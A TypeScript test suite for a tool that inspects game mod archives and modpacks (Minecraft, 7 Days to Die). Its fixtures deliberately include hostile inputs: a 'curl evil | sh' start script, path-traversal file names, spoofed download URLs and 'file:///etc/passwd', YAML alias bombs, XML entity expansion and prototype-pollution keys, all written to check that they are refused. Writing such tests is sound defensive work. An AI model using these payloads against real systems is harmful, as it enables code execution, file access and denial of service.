import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { inspectedMod } from '#contracts/agent-mods.ts';
import type { GameId } from '#contracts/games.ts';
import { openArchive } from '#runtime/archives/open-archive.ts';
import { zipByBytes } from '#runtime/archives/testing/zip-by-bytes.ts';
import { gameOf } from './games.ts';

let root = '';
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'mod-metadata-'));
});
afterEach(() => rm(root, { recursive: true }));

type Files = Readonly<Record<string, string | Buffer>>;

const inspect = async (files: Files, game: GameId = 'minecraft') => {
  const path = join(root, 'file.zip');
  await writeFile(path, zipByBytes(Object.entries(files).map(([name, data]) => ({ name, data }))));
  await using archive = await openArchive(path);
  const inspected = await gameOf(game).mods.inspect(archive);
  // Guarantee: whatever a file says about itself, what the agent sends fits the contract.
  expect(inspectedMod.shape.content.parse(inspected.content)).toEqual(inspected.content);
  return inspected;
};

const modsOf = async (files: Files) => {
  const { content } = await inspect(files);
  return content.is === 'mods' ? content.mods : content;
};

describe('a jar', () => {
  test('of Fabric, with line breaks in its strings', async () => {
    const text = `{
      "schemaVersion": 1, "id": "sodium", "version": "0.5.8+mc1.20.4", "name": "Sodium",
      "description": "Sodium is a rendering engine
        for Minecraft\twith \\"quotes\\"",
      "authors": ["JellySquid", { "name": "IMS212", "contact": {} }],
      "environment": "client",
      "depends": { "fabricloader": ">=0.12.0", "minecraft": "1.20.x", "fabric-api": "*" },
      "breaks": { "optifabric": "*", "java": "<17" }
    }`;
    expect(await modsOf({ 'fabric.mod.json': text })).toEqual([
      {
        id: 'sodium',
        name: 'Sodium',
        version: '0.5.8+mc1.20.4',
        authors: ['JellySquid', 'IMS212'],
        loaders: ['fabric', 'quilt'],
        side: 'client',
        requires: ['fabric-api'],
        breaks: ['optifabric'],
      },
    ]);
  });

  test('of Quilt', async () => {
    const text = JSON.stringify({
      schema_version: 1,
      quilt_loader: {
        group: 'org.example',
        id: 'example',
        version: '1.0.0',
        metadata: { name: 'Example', contributors: { Ada: 'Owner', Bo: ['Artist'] } },
        depends: [
          'quilt_base',
          { id: 'org.quiltmc:qsl', versions: '>=1' },
          { id: 'extra', optional: true },
          { id: 'minecraft' },
        ],
        breaks: [{ id: 'other' }],
      },
      minecraft: { environment: 'dedicated_server' },
    });
    expect(await modsOf({ 'quilt.mod.json': text })).toMatchObject([
      {
        id: 'example',
        name: 'Example',
        authors: ['Ada', 'Bo'],
        loaders: ['quilt'],
        side: 'server',
        requires: ['quilt_base', 'qsl'],
        breaks: ['other'],
      },
    ]);
  });

  test('of Forge, with its version in the manifest', async () => {
    const files = {
      'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\r\nImplementation-Version: 11.6.0.10\r\n 24\r\n',
      'META-INF/mods.toml': [
        'modLoader="javafml"',
        'loaderVersion="[43,)"',
        '[[mods]]',
        'modId="jei"',
        'version="${file'.concat('.jarVersion}"'),
        'displayName="Just Enough Items"',
        'authors="mezz"',
        "description='''\nView items\n'''",
        '[[dependencies.jei]]',
        'modId="forge"\nmandatory=true\nversionRange="[43,)"\nordering="NONE"\nside="BOTH"',
        '[[dependencies.jei]]',
        'modId="needed"\nmandatory=true\nside="BOTH"',
        '[[dependencies.jei]]',
        'modId="nice"\nmandatory=false\nside="BOTH"',
      ].join('\n'),
    };
    expect(await modsOf(files)).toEqual([
      {
        id: 'jei',
        name: 'Just Enough Items',
        version: '11.6.0.1024',
        authors: ['mezz'],
        loaders: ['forge'],
        side: 'both',
        requires: ['needed'],
        breaks: [],
      },
    ]);
  });

  test.each([
    ['displayTest="IGNORE_ALL_VERSION"', '', 'client'],
    ['displayTest="IGNORE_SERVER_VERSION"', '', 'server'],
    ['displayTest="MATCH_VERSION"', '', 'both'],
    ['', '[[dependencies.a]]\nmodId="minecraft"\nmandatory=true\nside="CLIENT"', 'client'],
    ['', '[[dependencies.a]]\nmodId="other"\nmandatory=true\nside="CLIENT"', 'both'],
  ])('of Forge with %s %s is for %s', async (mod, dependency, side) => {
    const text = `[[mods]]\nmodId="a"\n${mod}\n${dependency}\n`;
    expect(await modsOf({ 'META-INF/mods.toml': text })).toMatchObject([{ side, requires: [] }]);
  });

  test('of NeoForge, with what it cannot be with', async () => {
    const text = [
      '[[mods]]\nmodId="a"',
      '[[dependencies.a]]\nmodId="neoforge"\ntype="required"',
      '[[dependencies.a]]\nmodId="b"\ntype="required"',
      '[[dependencies.a]]\nmodId="c"\ntype="incompatible"',
      '[[dependencies.a]]\nmodId="d"\ntype="optional"',
    ].join('\n');
    expect(await modsOf({ 'META-INF/neoforge.mods.toml': text })).toMatchObject([
      { id: 'a', loaders: ['neoforge'], requires: ['b'], breaks: ['c'] },
    ]);
    expect(await modsOf({ 'META-INF/mods.toml': text })).toMatchObject([{ loaders: ['neoforge'] }]);
  });

  test('of old Forge', async () => {
    const text = '[{"modid": "ic2", "name": "IC2", "version": "2.8", "authorList": ["Alblaka"]}]';
    expect(await modsOf({ 'mcmod.info': text })).toMatchObject([
      { id: 'ic2', version: '2.8', authors: ['Alblaka'], loaders: ['forge'], side: null },
    ]);
  });

  test('of a plugin for several servers', async () => {
    const files = {
      'plugin.yml':
        'name: LuckPerms\nversion: 5.10\nauthor: Luck\ndepend: [Vault]\ncommands:\n  lp:\n    usage: "?"\n',
      'bungee.yml': 'name: LuckPerms\nversion: 5.10\nauthor: Luck\n',
      'velocity-plugin.json':
        '{"id":"luckperms","name":"LuckPerms","version":"5.10","authors":["Luck"],"dependencies":[{"id":"a"},{"id":"b","optional":true}]}',
    };
    expect(await modsOf(files)).toMatchObject([
      {
        id: 'LuckPerms',
        version: '5.10',
        authors: ['Luck'],
        loaders: ['paper'],
        side: 'server',
        requires: ['Vault'],
      },
      { id: 'LuckPerms', loaders: [] },
      { id: 'luckperms', loaders: ['velocity'], requires: ['a'] },
    ]);
  });

  test('of a plugin for Paper, which does not read plugin.yml then', async () => {
    const files = {
      'paper-plugin.yml':
        'name: New\nversion: "1"\nauthors: [A, B]\ndependencies:\n  server:\n    Must: {load: BEFORE}\n    May: {required: false}\n',
      'plugin.yml': 'name: Old\n',
    };
    expect(await modsOf(files)).toMatchObject([{ id: 'New', authors: ['A', 'B'], requires: ['Must'] }]);
  });

  test('of a plugin with a thousand permissions', async () => {
    const permissions = Array.from({ length: 1000 }, (_, at) => `  a.${at}:\n    default: op`).join('\n');
    const text = `# made by hand\n'name': "Big"\nversion: '1'\npermissions:\n${permissions}\nauthors:\n- A\n- B\n`;
    expect(await modsOf({ 'plugin.yml': text })).toMatchObject([
      { id: 'Big', version: '1', authors: ['A', 'B'] },
    ]);
  });

  test('that tells nothing', async () => {
    expect(await modsOf({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n' })).toMatchObject({
      is: 'unknown',
    });
  });

  const deep = 100_000;
  test.each<[string, Files]>([
    [
      '10 aliases of 10 aliases',
      {
        'plugin.yml': `a: &a [x,x,x,x,x,x,x,x,x,x]\n${'bcdefghi'
          .split('')
          .map((key, at) => `${key}: &${key} [${Array(10).fill(`*${'abcdefgh'[at]}`).join()}]`)
          .join('\n')}\nname: *i`,
      },
    ],
    ['deep lists in YAML', { 'plugin.yml': `name: ${'['.repeat(deep)}` }],
    ['deep explicit keys in YAML', { 'plugin.yml': `name: ${'? '.repeat(3900)}` }],
    ['deep maps as keys in YAML', { 'plugin.yml': `name: ${'{'.repeat(7900)}` }],
    ['an alias for a name', { 'plugin.yml': 'depend: &a [b]\nname: *a\n' }],
    ['deep lists in JSON', { 'fabric.mod.json': `{"id":${'['.repeat(deep)}` }],
    ['deep lists in TOML', { 'META-INF/mods.toml': `x=${'['.repeat(deep)}` }],
    ['a number for all', { 'fabric.mod.json': '7' }],
    ['null for all', { 'quilt.mod.json': 'null', 'velocity-plugin.json': 'null', 'plugin.yml': '~' }],
    ['no id', { 'fabric.mod.json': '{"name":"x"}' }],
    ['an object for an id', { 'fabric.mod.json': '{"id":{"toString":"x"}}' }],
    ['keys of the prototype', { 'fabric.mod.json': '{"__proto__":{"id":"a"},"constructor":{"id":"b"}}' }],
    ['bytes that are no text', { 'plugin.yml': Buffer.from([0xff, 0xfe, 0x00, 0xd8]) }],
  ])('with %s tells nothing', async (_, files) => {
    expect(await modsOf(files)).toMatchObject({
      is: 'unknown',
      why: expect.stringContaining('cannot be read'),
    });
    expect(Object.hasOwn(Object.prototype, 'id')).toBe(false);
  });

  test('with too much of all is cut to what the contract takes', async () => {
    const many = Array.from({ length: 5000 }, (_, at) => `mod-${at}`);
    const text = JSON.stringify({
      id: `😀${'i'.repeat(198)}😀`,
      name: 'n\n\u0000\u001b[2J'.repeat(900),
      version: 'v'.repeat(900),
      authors: many,
      depends: Object.fromEntries(many.map((id) => [id, '*'])),
      breaks: Object.fromEntries(many.map((id) => [id, '*'])),
    });
    expect(await modsOf({ 'fabric.mod.json': text })).toMatchObject([
      { id: expect.stringMatching(/^😀i{198}$/u) },
    ]);
  });

  test('with a file that is larger than any is refused', async () => {
    await expect(inspect({ 'plugin.yml': `name: a\n#${'x'.repeat(300_000)}` })).rejects.toMatchObject({
      fault: 'too-large',
    });
  });
});

const file = (path: string, more: object = {}) => ({
  path,
  hashes: { sha1: 'a'.repeat(40), sha512: 'b'.repeat(128) },
  downloads: ['https://cdn.modrinth.com/data/x/a.jar'],
  fileSize: 1234,
  ...more,
});
const packIndex = (files: readonly object[], more: object = {}) =>
  JSON.stringify({
    formatVersion: 1,
    game: 'minecraft',
    versionId: '5.9.0',
    name: 'Fabulously Optimized',
    files,
    dependencies: { minecraft: '1.20.4', 'fabric-loader': '0.15.6' },
    ...more,
  });

describe('a pack', () => {
  test('of Modrinth gives a server what is for servers', async () => {
    const { content, placements, downloads, leftOut } = await inspect({
      'modrinth.index.json': packIndex([
        file('mods/both.jar', { env: { client: 'required', server: 'required' } }),
        file('mods/client.jar', { env: { client: 'required', server: 'unsupported' } }),
        file('mods/plain.jar'),
        file('mods/replaced.jar'),
      ]),
      'overrides/config/a.txt': 'for all',
      'overrides/config/b.txt': 'for all',
      'overrides/mods/replaced.jar': 'jar',
      'server-overrides/config/a.txt': 'for servers',
      'client-overrides/options.txt': 'for players',
      'overrides/server.properties': 'rcon.password=evil',
      'overrides/start.SH': 'curl evil | sh',
      'overrides/libraries/net/evil.jar': 'jar',
      'overrides/World/level.dat': 'world',
      'overrides/World/region/r.0.0.mca': 'world',
    });
    expect(content).toEqual({
      is: 'pack',
      name: 'Fabulously Optimized',
      version: '5.9.0',
      gameVersion: '1.20.4',
      loader: 'fabric',
      files: [
        { path: 'mods/both.jar', bytes: 1234, sha512: 'b'.repeat(128), host: 'cdn.modrinth.com' },
        { path: 'mods/plain.jar', bytes: 1234, sha512: 'b'.repeat(128), host: 'cdn.modrinth.com' },
        { path: 'mods/replaced.jar', bytes: 3, sha512: null, host: null },
      ],
      overrides: 2,
      clientOnly: 1,
    });
    expect(placements.toSorted((one, other) => (one.path < other.path ? -1 : 1))).toEqual([
      { entry: 'server-overrides/config/a.txt', path: 'config/a.txt' },
      { entry: 'overrides/config/b.txt', path: 'config/b.txt' },
      { entry: 'overrides/mods/replaced.jar', path: 'mods/replaced.jar' },
    ]);
    expect(downloads.map(({ path }) => path)).toEqual(['mods/both.jar', 'mods/plain.jar']);
    expect(downloads[0]?.file).toEqual({
      name: 'both.jar',
      bytes: 1234,
      hashes: { sha1: 'a'.repeat(40), sha512: 'b'.repeat(128) },
      from: { kind: 'address', url: 'https://cdn.modrinth.com/data/x/a.jar', key: null },
    });
    expect(leftOut.toSorted()).toEqual([
      'World/level.dat',
      'World/region/r.0.0.mca',
      'libraries/net/evil.jar',
      'server.properties',
      'start.SH',
    ]);
  });

  test.each([
    ['out of the folder', '../evil.jar', 'path-outside'],
    ['out of the folder with backslashes', 'mods\\..\\..\\evil.jar', 'path-outside'],
    ['on a drive', 'C:/evil.jar', 'path-absolute'],
    ['at the root', '/evil.jar', 'path-absolute'],
    ['to a device', 'mods/nul', 'path-name'],
    ['to a file that begins with a dot', 'mods/.hidden', 'path-name'],
    ['that is too long', `mods/${'x'.repeat(300)}.jar`, 'path-too-long'],
  ])('with a path %s is refused', async (_, path, fault) => {
    await expect(inspect({ 'modrinth.index.json': packIndex([file(path)]) })).rejects.toMatchObject({
      fault,
    });
  });

  test.each([
    ['http', 'http://cdn.modrinth.com/a.jar'],
    ['another host', 'https://evil.example/a.jar'],
    ['a host below', 'https://cdn.modrinth.com.evil.example/a.jar'],
    ['a user', 'https://cdn.modrinth.com@evil.example/a.jar'],
    ['a user of the right host', 'https://user:pass@cdn.modrinth.com/a.jar'],
    ['another port', 'https://cdn.modrinth.com:8443/a.jar'],
    ['a file', 'file:///etc/passwd'],
    ['no address', 'a.jar'],
  ])('with a download from %s is refused', async (_, url) => {
    const index = packIndex([file('mods/a.jar', { downloads: [url] })]);
    await expect(inspect({ 'modrinth.index.json': index })).rejects.toMatchObject({ fault: 'damaged' });
  });

  test.each([
    ['of another format', packIndex([], { formatVersion: 2 })],
    ['for another game', packIndex([], { game: 'chess' })],
    ['without hashes', packIndex([file('mods/a.jar', { hashes: {} })])],
    ['with a size below nothing', packIndex([file('mods/a.jar', { fileSize: -1 })])],
    ['with 2,001 files', packIndex(Array.from({ length: 2001 }, (_, at) => file(`mods/${at}.jar`)))],
    ['that is no JSON', '{'],
    ['that is a list', '[]'],
  ])('%s is refused', async (_, index) => {
    await expect(inspect({ 'modrinth.index.json': index })).rejects.toMatchObject({ fault: 'damaged' });
  });

  test('that names a file twice is refused', async () => {
    const twice = packIndex([file('mods/a.jar'), file('mods/A.jar')]);
    await expect(inspect({ 'modrinth.index.json': twice })).rejects.toMatchObject({
      fault: 'case-collision',
    });
    const over = { 'modrinth.index.json': packIndex([file('mods/a.jar')]), 'overrides/mods/A.jar': 'jar' };
    await expect(inspect(over)).rejects.toMatchObject({ fault: 'case-collision' });
  });

  test.each(['', 'All the Mods 9 server/'])('for servers as a zip below “%s”', async (folder) => {
    const { content, placements, leftOut } = await inspect({
      [`${folder}mods/create.jar`]: 'jar',
      [`${folder}config/create.toml`]: 'toml',
      [`${folder}startserver.bat`]: 'java',
      [`${folder}forge-47-installer.jar`]: 'jar',
      [`${folder}eula.txt`]: 'eula=true',
    });
    expect(content).toMatchObject({
      is: 'pack',
      files: [{ path: 'mods/create.jar', bytes: 3, sha512: null, host: null }],
      overrides: 1,
      clientOnly: 0,
    });
    expect(placements).toEqual([
      { entry: `${folder}mods/create.jar`, path: 'mods/create.jar' },
      { entry: `${folder}config/create.toml`, path: 'config/create.toml' },
    ]);
    expect(leftOut).toEqual(['startserver.bat', 'forge-47-installer.jar', 'eula.txt']);
  });

  test.each<[string, Files]>([
    [
      'for players of CurseForge',
      { 'manifest.json': '{"manifestType":"minecraftModpack"}', 'overrides/mods/a.jar': '' },
    ],
    ['without mods', { 'readme.txt': '' }],
  ])('%s is none', async (_, files) => {
    expect((await inspect(files)).content).toMatchObject({ is: 'unknown' });
  });
});

const modInfo = (name: string, version = '1.0') =>
  `<?xml version="1.0" encoding="UTF-8"?>\r\n<xml>\r\n  <Name value="${name}"/>\r\n  <DisplayName value="${name} &amp; more" />\r\n  <Version value="${version}" />\r\n  <Author value="Ada" />\r\n</xml>`;
const oldModInfo = (name: string) =>
  `<xml><ModInfo><Name value="${name}" /><Description value="d" /><Author value="Bo" /><Version value="0.1" /></ModInfo></xml>`;

describe('an archive for 7 Days to Die', () => {
  const inspect7 = (files: Files) => inspect(files, 'seven-days-to-die');

  test.each([
    ['with the folder of the mod', 'War3zuk/'],
    ['with the folder Mods', 'Mods/War3zuk/'],
    ['nested one level deeper', 'download-main/Mods/War3zuk/'],
  ])('%s', async (_, folder) => {
    const { content, placements, leftOut } = await inspect7({
      [`${folder}ModInfo.xml`]: modInfo('War3zuk'),
      [`${folder}Config/items.xml`]: '<configs/>',
      'readme.txt': 'read me',
    });
    expect(content).toMatchObject({
      is: 'folders',
      folders: [
        {
          name: 'War3zuk',
          metadata: { id: 'War3zuk', name: 'War3zuk & more', version: '1.0', authors: ['Ada'], loaders: [] },
        },
      ],
    });
    expect(placements).toEqual([
      { entry: `${folder}ModInfo.xml`, path: 'Mods/War3zuk/ModInfo.xml' },
      { entry: `${folder}Config/items.xml`, path: 'Mods/War3zuk/Config/items.xml' },
    ]);
    expect(leftOut).toEqual(['readme.txt']);
  });

  test('without a folder gets one by its name, and its ModInfo.xml the name that Linux finds', async () => {
    const { placements } = await inspect7({ 'modinfo.XML': oldModInfo('Old Mod'), 'Config/a.xml': '' });
    expect(placements.map(({ path }) => path)).toEqual([
      'Mods/Old Mod/ModInfo.xml',
      'Mods/Old Mod/Config/a.xml',
    ]);
  });

  test('with several mods of both formats', async () => {
    const { content } = await inspect7({
      'Mods/A/ModInfo.xml': modInfo('A'),
      'Mods/B/ModInfo.xml': Buffer.from(`\ufeff${oldModInfo('B')}`, 'utf16le'),
      'Mods/C/ModInfo.xml': `\ufeff${oldModInfo('C')}`,
    });
    expect(content).toMatchObject({
      folders: [
        { metadata: { id: 'A' } },
        { metadata: { id: 'B', version: '0.1' } },
        { metadata: { id: 'C' } },
      ],
    });
  });

  test.each<[string, Files]>([
    ['a mod within a mod', { 'A/ModInfo.xml': modInfo('A'), 'A/B/ModInfo.xml': modInfo('B') }],
    ['a mod within one at the root', { 'ModInfo.xml': modInfo('A'), 'B/ModInfo.xml': modInfo('B') }],
    ['two mods in folders of one name', { 'x/A/ModInfo.xml': modInfo('A'), 'y/a/ModInfo.xml': modInfo('B') }],
    ['a name that is a path', { 'ModInfo.xml': modInfo('../../evil') }],
    ['a name of a device', { 'ModInfo.xml': modInfo('con') }],
    ['no name', { 'A/ModInfo.xml': '<xml><Version value="1"/></xml>' }],
    ['no XML', { 'A/ModInfo.xml': 'Name=A' }],
    ['deep XML', { 'A/ModInfo.xml': '<xml>'.repeat(40_000) }],
    [
      'entities of entities',
      {
        'A/ModInfo.xml': `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><xml><Name value="&b;"/></xml>`,
      },
    ],
    ['keys of the prototype', { 'A/ModInfo.xml': '<xml><__proto__><Name value="A"/></__proto__></xml>' }],
    ['no ModInfo.xml', { 'A/readme.txt': '' }],
  ])('with %s is none', async (_, files) => {
    const { content, placements } = await inspect7(files);
    expect(content).toMatchObject({ is: 'unknown' });
    expect(placements).toEqual([]);
  });

  test('with colliding names is refused', async () => {
    const files = { 'A/ModInfo.xml': modInfo('A'), 'A/x.xml': '', 'A/X.xml': '' };
    await expect(inspect7(files)).rejects.toMatchObject({ fault: 'case-collision' });
  });
});

test('a game that takes ids takes no archive', async () => {
  expect((await inspect({ 'a.txt': '' }, 'ark-se')).content).toMatchObject({ is: 'unknown' });
});
